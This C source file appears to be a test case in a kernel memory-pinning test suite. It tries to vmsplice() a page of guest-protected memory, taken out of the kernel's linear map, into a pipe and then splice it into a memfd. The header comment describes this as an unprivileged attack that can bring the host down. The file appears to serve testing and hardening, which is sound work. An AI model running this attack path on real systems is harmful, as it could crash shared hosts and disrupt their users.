// SPDX-License-Identifier: GPL-2.0
/*
 * The attack, class G (FOLL_GET): an ordinary process brings the host down.
 *
 * c->addr is memory that this process has given to a protected guest: it is
 * pinned for that, and the hypervisor has taken it out of the kernel's linear
 * map. Nobody has to be privileged for what follows.
 *
 * It puts the page into a pipe with vmsplice(), and from there into a file. A
 * reference is no pin: an exclusive pin does not stop this one.
 */
#include <errno.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "guest/paths/cell.h"
#include "guest/paths/path.h"

static int touch(struct path_cell *c)
{
	struct iovec page = { c->addr, PAGE_BYTES };
	int file = memfd_create("file", MFD_CLOEXEC), p[2];

	if (pipe(p) || vmsplice(p[1], &page, 1, 0) < 0)
		return cell_refused(c, "vmsplice", errno);
	if (splice(p[0], NULL, file, NULL, PAGE_BYTES, 0) < 0)
		return cell_refused(c, "splice", errno);
	return 0;
}

PINLAB_PATH = {
	.summary = "vmsplice() and splice() of protected memory",
	.way = WAY_GET,
	.reach = ANSWER_READ,
	.attack = true,
	.touch = touch,
};
